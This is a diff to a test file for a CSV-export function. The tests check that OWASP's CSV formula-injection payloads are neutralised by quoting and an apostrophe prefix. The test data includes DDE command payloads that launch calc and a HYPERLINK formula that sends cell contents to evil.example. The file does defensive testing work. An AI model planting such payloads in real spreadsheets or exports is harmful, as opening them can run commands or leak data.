@@ -42,28 +42,30 @@ describe('formula injection (SPEC decision 20)', () => {
   // OWASP "CSV Injection" (owasp.org/www-community/attacks/CSV_Injection): the payloads it lists,
   // and the prefixes it names (=, +, -, @, tab 0x09, carriage return 0x0D).
   test.each([
-    ['=1+2";=1+2', '"\'=1+2"";=1+2"'],
-    ['=1+2\'" ;,=1+2', '"\'=1+2\'"" ;,=1+2"'],
+    // A formula after a separator inside the cell is guarded too: a ;-locale splits there.
+    ['=1+2";=1+2', '"\'=1+2"";\'=1+2"'],
+    ['=1+2\'" ;,=1+2', '"\'=1+2\'"" ;,\'=1+2"'],
     ["@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"],
     ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
     [
       '=HYPERLINK("http://evil.example?x="&A1,"Error")',
       '"\'=HYPERLINK(""http://evil.example?x=""&A1,""Error"")"',
     ],
-    ['\t=1+2', '"\'\t=1+2"'],
-    ['\r=1+2', '"\'\r=1+2"'],
+    ['\t=1+2', '"\'\t\'=1+2"'],
+    ['\r=1+2', '"\'\r\'=1+2"'],
   ])('OWASP payload %j is guarded and quoted where it holds a separator', (payload, written) => {
     expect(csvCell(payload)).toBe(written);
   });
 
-  test('a formula after a ; is quoted, so a ;-separator locale (de-DE, fr-FR) keeps it in one cell', () => {
-    expect(csvCell("Joe;=cmd|' /C calc'!A0")).toBe('"Joe;=cmd|\' /C calc\'!A0"');
+  test('a formula after a ; is quoted and guarded, so a ;-separator locale (de-DE, fr-FR) never starts a cell with it', () => {
+    expect(csvCell("Joe;=cmd|' /C calc'!A0")).toBe("\"Joe;'=cmd|' /C calc'!A0\"");
+    expect(csvCell('a, -b')).toBe('"a, \'-b"');
   });
 
   test.each([' =1+2', '  @SUM(A1)', '\u00a0=1', ' \t+1'])(
     'leading whitespace before a formula character is guarded: %j',
     (payload) => {
-      expect(csvCell(payload).replace(/^"/, '')).toMatch(/^'/);
+      expect(csvCell(payload).replace(/^"/, '')).toMatch(/^\s*'/);
     },
   );
 
